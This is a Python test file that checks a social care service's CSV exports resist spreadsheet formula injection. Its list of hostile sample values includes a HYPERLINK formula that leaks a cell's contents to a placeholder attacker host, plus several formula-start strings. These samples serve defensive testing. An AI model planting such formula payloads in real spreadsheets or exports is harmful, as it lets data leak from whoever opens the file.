"""Every CSV the product hands out is safe to open in a spreadsheet (OWASP CSV injection).

Text staff type through the API (a team name, a key worker's id) reaches the KPI figures,
the CLD return and the what-if report. Each hostile value below is planted through the
assessment API, the people go onto the event log as they would in production, and each
export is fetched through its own API: no cell may start a formula. The API may refuse a
value at the door instead, or trim the tab or carriage return that starts it, which is as
safe.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any
from uuid import uuid4

import httpx
import pytest
import pytest_asyncio

from contracts import cld
from contracts import events as ev
from contracts.policy import PolicyBook, load_policy, policy_document
from contracts.vocabulary import Role
from pbj.journey import ELIGIBLE_NEEDS
from servicekit.csvexport import FORMULA_START, csv_text
from servicekit.testing import POLICIES_DIR, Tokens, deliver, running
from services.allocation.api import create_app as allocation_app
from services.allocation.settings import Settings as AllocationSettings
from services.assessment.api import create_app as assessment_app
from services.assessment.settings import Settings as AssessmentSettings
from services.audit.api import create_app as audit_app
from services.audit.settings import Settings as AuditSettings
from services.payments.api import create_app as payments_app
from services.payments.settings import Settings as PaymentsSettings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
"""What a spreadsheet would run as a formula, or a start that hides one (OWASP)."""

# Seed 003 ch.2 Step 1 §ii: Lancashire's six domains.
LANCASHIRE_ANSWERS = {
    "staying_safe": 4,
    "communication": 2,
    "work_leisure_learning": 3,
    "essential_living_tasks": 4,
    "personal_care": 3,
    "health": 3,
}
BOOK = PolicyBook.from_directory(POLICIES_DIR)


@dataclass
class Council:
    """The services of one deployment, in-process, sharing the embedded event log."""

    clients: dict[str, httpx.AsyncClient]
    payments: Any
    tokens: Tokens
    planted: list[str]

    def headers(self, role: Role) -> dict[str, str]:
        return self.tokens.headers(role, "lancashire", user_id=f"{role.value}-1")


async def plant(client: httpx.AsyncClient, headers: dict[str, str], person: str, text: str) -> bool:
    """One person whose team and key worker are `text`, validated; False if refused."""
    start = {
        "person_id": person,
        "client_group": "older_people",
        "completed_by": "supported",
        "team": text,
        "key_worker_id": text,
        "age_band": "75-84",
    }
    r = await client.post("/v1/assessments", json=start, headers=headers)
    if r.status_code == 422:
        return False
    assert r.status_code == 201, r.text
    url = f"/v1/assessments/{r.json()['assessment_id']}"
    answers = {
        "domains": LANCASHIRE_ANSWERS,
        "significant_informal_support": False,
        "needs_24_7": False,
        "outcomes": ["Stay at home"],
        "risks": [],
    }
    for method, path, body in (
        ("PUT", "/answers", answers),
        ("POST", "/submit", None),
        ("POST", "/eligibility", ELIGIBLE_NEEDS),
        ("POST", "/validate", {"adjustments": [], "risks": []}),
    ):
        r = await client.request(method, url + path, json=body, headers=headers)
        assert r.is_success, f"{path}: {r.text}"
    return True


IN_ONE_DEPLOYMENT = pytest.mark.asyncio(loop_scope="module")
"""The exports are read from one deployment, planted once for the module."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def council(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Council]:
    tmp_path = tmp_path_factory.mktemp("exports")
    tokens = Tokens(tmp_path)
    apps = {
        "assessment": assessment_app(
            AssessmentSettings(data_dir=tmp_path, policies_dir=POLICIES_DIR)
        ),
        "allocation": allocation_app(
            AllocationSettings(data_dir=tmp_path, policies_dir=POLICIES_DIR)
        ),
        "audit": audit_app(AuditSettings(data_dir=tmp_path, policies_dir=POLICIES_DIR)),
        "payments": payments_app(PaymentsSettings(data_dir=tmp_path, policies_dir=POLICIES_DIR)),
    }
    async with AsyncExitStack() as stack:
        clients = {
            name: await stack.enter_async_context(running(app)) for name, app in apps.items()
        }
        council = Council(clients, apps["payments"], tokens, [])
        care_manager = council.headers(Role.CARE_MANAGER)
        for n, text in enumerate(HOSTILE):
            if await plant(clients["assessment"], care_manager, f"P{n}", text):
                council.planted.append(text)
        assert council.planted, "the API refused every hostile value: nothing to export"
        await until_audit_has(council, len(council.planted))
        yield council


async def until_audit_has(council: Council, people: int) -> None:
    """Audit follows the log in the background: wait until it has everyone planted."""
    for _ in range(300):
        r = await council.clients["audit"].get(
            "/v1/kpis/ni130", params={"by": "team"}, headers=council.headers(Role.AUDITOR)
        )
        if r.status_code == 200 and r.json()["total"]["denominator"] >= people:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"audit never saw the {people} people planted")


# --- each export, fetched through its API -------------------------------------------------


async def kpis(council: Council, by: str) -> str:
    r = await council.clients["audit"].get(
        "/v1/returns/kpis.csv", params={"by": by}, headers=council.headers(Role.AUDITOR)
    )
    assert r.status_code == 200, r.text
    return r.text


async def kpis_by_team(council: Council) -> str:
    return await kpis(council, "team")


async def kpis_by_key_worker(council: Council) -> str:
    return await kpis(council, "key_worker")


async def cld_return(council: Council) -> str:
    quarter = f"{date.today().year}-Q{(date.today().month - 1) // 3 + 1}"
    r = await council.clients["audit"].get(
        "/v1/returns/cld.csv", params={"quarter": quarter}, headers=council.headers(Role.AUDITOR)
    )
    assert r.status_code == 200, r.text
    return r.text


async def cld_return_with_identities(council: Council) -> str:
    """As `pbj returns cld` and the portal hand it out: identities filled in."""
    extract = await cld_return(council)
    people = cld.people_in(extract)
    r = await council.clients["assessment"].post(
        "/v1/people/identities",
        json={"person_ids": people},
        headers=council.headers(Role.AUDITOR),
    )
    assert r.status_code == 200, r.text
    return cld.with_identities(extract, {i["person_id"]: i for i in r.json()["items"]})


async def whatif_report(council: Council) -> str:
    proposal = policy_document(load_policy(POLICIES_DIR / "lancashire.yaml"))
    proposal["version"] = "2099.1"
    r = await council.clients["allocation"].post(
        "/v1/policies/whatif",
        params={"format": "csv"},
        json={"policy": proposal},
        headers=council.headers(Role.AUDITOR),
    )
    assert r.status_code == 200, r.text
    return r.text


async def payment_batch(council: Council) -> str:
    """A finance batch with a clawback-free payment, so its amounts are plain numbers."""
    start = date.today() - timedelta(days=7)
    await deliver(
        council.payments,
        ev.PlanSignedOff(
            person_id="P0",
            council="lancashire",
            plan_id=uuid4(),
            budget_id=uuid4(),
            assessment_id=uuid4(),
            plan_version=1,
            weekly_pence=20_000,
            annual_pence=20_000 * 52,
            one_off_pence=0,
            contingency_weekly_pence=0,
            lines=[],
            request_for_more=False,
            signed_off_by="tm-1",
            signed_off_by_role=Role.TEAM_MANAGER,
            first_review_on=start + timedelta(days=42),
            policy_version=BOOK.current("lancashire").policy_version,
        ),
    )
    client, finance = council.clients["payments"], council.headers(Role.FINANCE)
    care_manager = council.headers(Role.CARE_MANAGER)
    (deployment,) = (await client.get("/v1/deployments", headers=finance)).json()["items"]
    url = f"/v1/deployments/{deployment['deployment_id']}"
    steps: list[tuple[str, dict[str, Any], dict[str, str]]] = [
        (
            f"{url}/arrangement",
            {
                "parts": [{"option": "direct_payment"}],
                "frequency": "weekly",
                "first_due_on": date.today().isoformat(),
                "assessed_max_weekly_contribution_pence": 0,
            },
            care_manager,
        ),
        (f"{url}/agreement", {"signed_on": date.today().isoformat()}, care_manager),
        ("/v1/payments/release-due", {"as_of": date.today().isoformat()}, finance),
    ]
    for path, body, headers in steps:
        method = "PUT" if path.endswith("arrangement") else "POST"
        r = await client.request(method, path, json=body, headers=headers)
        assert r.status_code < 300, f"{path}: {r.text}"
    r = await client.post(
        "/v1/exports/payments", json={"up_to": date.today().isoformat()}, headers=finance
    )
    assert r.status_code == 201, r.text
    r = await client.get(f"/v1/exports/payments/{r.json()['batch_id']}.csv", headers=finance)
    assert r.status_code == 200, r.text
    return r.text


EXPORTS: list[Callable[[Council], Awaitable[str]]] = [
    kpis_by_team,
    kpis_by_key_worker,
    cld_return,
    cld_return_with_identities,
    whatif_report,
    payment_batch,
]


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting a formula that is not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_START) and not is_number(cell)
    ]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@IN_ONE_DEPLOYMENT
@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.__name__)
async def test_text_typed_into_the_api_comes_out_of_every_export_unable_to_run(
    council: Council, export: Callable[[Council], Awaitable[str]]
):
    text = await export(council)
    assert formula_cells(text) == []


@IN_ONE_DEPLOYMENT
async def test_the_hostile_team_names_come_out_quoted_as_text(council: Council):
    rows = list(csv.reader(io.StringIO(await kpis_by_team(council), newline="")))
    teams = {row[4] for row in rows[1:] if row[3] == "team"}
    formulas = [text for text in council.planted if text.startswith(("=", "+", "-", "@"))]
    assert formulas and {"'" + text for text in formulas} <= teams


def test_a_negative_amount_stays_a_number_and_plain_text_is_unchanged():
    text = csv_text(["amount_pence", "amount_gbp", "team"], [[-1200, None, "North"]])
    assert text == "amount_pence,amount_gbp,team\r\n-1200,,North\r\n"
